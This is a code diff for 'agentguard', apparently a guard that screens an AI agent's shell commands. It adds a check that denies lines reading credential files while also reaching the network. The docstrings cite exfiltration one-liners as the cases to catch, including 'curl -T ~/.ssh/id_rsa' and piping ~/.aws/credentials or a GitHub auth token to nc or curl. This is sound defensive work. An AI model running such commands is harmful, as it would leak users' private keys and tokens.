@@ -11,6 +11,8 @@ import os
 
 from agentguard.decision import ALLOW, DENY, Match
 from agentguard.engine import paths, search
+from agentguard.engine.pathnames import normalise
+from agentguard.engine.patterns import deciding_pattern
 from agentguard.shell import Context, analyse, judge
 from agentguard.shell.catalogue import PROGRAMS
 
@@ -19,7 +21,8 @@ if TYPE_CHECKING:
     from collections.abc import Sequence
 
     from agentguard.engine.evaluate import Call
-    from agentguard.shell.model import Analysis
+    from agentguard.engine.paths import Context as PathContext
+    from agentguard.shell.model import Analysis, SimpleCommand
 
 
 def context_for(call: Call) -> Context:
@@ -50,6 +53,7 @@ def judge_command(command: str, call: Call) -> tuple[list[Match], list[str]]:
 
     judgement = judge(analysis, call.policy["commands"], judge_path, context_for(call))
     matches = list(judgement)
+    matches.extend(sending(analysis, call))
     if call.paths.subagents:
         matches.extend(_subagent_commands(analysis, call))
     for cmd in analysis.commands:
@@ -78,6 +82,97 @@ def judge_command(command: str, call: Call) -> tuple[list[Match], list[str]]:
                 )
             )
     return matches, list(judgement.privileged)
+
+
+def sending(analysis: Analysis, call: Call) -> list[Match]:
+    """What a line sends away: credentials it reads, in a line that also reaches the network.
+
+    A file's path class with ``send`` decides it (``curl -T ~/.ssh/id_rsa``, ``cat
+    ~/.aws/credentials | nc host``), except a file a network program only authenticates
+    with (the catalogue's ``credential_options``: ``ssh -i KEY``, ``curl --cert FILE``).
+    A command rule with ``builtin`` and ``send`` decides its class's output when another
+    command of the line reaches the network (``gh auth token | curl -d @- …``).
+    """
+    network = [cmd for cmd in analysis.commands if "network" in cmd.classes]
+    if not network:
+        return []
+    out: list[Match] = []
+    if any(cls.get("send") for cls in call.policy["paths"]):
+        for cmd in analysis.commands:
+            used = _authenticates_with(cmd, call) if "network" in cmd.classes else set()
+            for target in cmd.reads:
+                if target not in used:
+                    out.extend(_sent(target, cmd.cwd or call.cwd, call.paths))
+    for rule in call.policy["commands"]:
+        decision = rule.get("send")
+        if not decision or decision == ALLOW or not rule["builtin"]:
+            continue
+        for cmd in analysis.commands:
+            if rule["builtin"] in cmd.classes and any(n is not cmd for n in network):
+                out.append(
+                    Match(
+                        rule["id"],
+                        decision,
+                        (rule["justification"] or f"{rule['builtin']} needs a human.")
+                        + " This line would send what it reads over the network.",
+                        what=cmd.text[:200],
+                        fix="Keep credentials local: ask a human to run the command.",
+                    )
+                )
+    return out
+
+
+def _sent(raw: str, cwd: str, ctx: PathContext) -> list[Match]:
+    """What sending ``raw`` away decides: every path class with ``send`` that matches it.
+
+    The Bash judgement asks this for a file a line reads when the line also reaches the
+    network; the class's ``send`` decision stands beside its ``read`` one.
+    """
+    out: list[Match] = []
+    for path in normalise(raw, cwd, ctx.home_dir):
+        rel = paths.worktree_rel(path, ctx)
+        subject = rel if rel else path.lstrip("/")
+        for cls in ctx.policy["paths"]:
+            decision = cls.get("send")
+            if not decision or decision == ALLOW:
+                continue
+            # A folder sent whole (tar, rsync -a, scp -r) sends what its patterns cover.
+            pattern = deciding_pattern(cls["patterns"], subject)
+            if pattern is None:
+                pattern = deciding_pattern(cls["patterns"], subject + "/.")
+            if pattern is not None:
+                out.append(
+                    Match(
+                        cls["id"],
+                        decision,
+                        (cls["justification"] or f"{cls['id']} paths are guarded.")
+                        + " This line would send one off the machine.",
+                        what=f"send {rel or path} (matches {pattern!r}) over the network",
+                        fix="Keep credentials local: ask a human to run the command.",
+                    )
+                )
+        if out:
+            break
+    return out
+
+
+def _authenticates_with(cmd: SimpleCommand, call: Call) -> set[str]:
+    """The files ``cmd`` names as its own credentials (``ssh -i KEY``): used, not sent."""
+    spec = PROGRAMS.get(os.path.basename(cmd.argv[0]) if cmd.argv else "", {})
+    options = str(spec.get("credential_options", "")).split()
+    if not options:
+        return set()
+    values: list[str] = []
+    argv = cmd.argv
+    for i, word in enumerate(argv[1:], 1):
+        if word in options and i + 1 < len(argv):
+            values.append(argv[i + 1])
+        elif word.startswith("--") and word.split("=", 1)[0] in options and "=" in word:
+            values.append(word.split("=", 1)[1])
+        elif not word.startswith("--") and len(word) > 2 and word[:2] in options:
+            values.append(word[2:])
+    cwd = cmd.cwd or call.cwd
+    return {form for value in values for form in normalise(value, cwd, call.paths.home_dir)}
 
 
 def _subagent_commands(analysis: Analysis, call: Call) -> list[Match]:
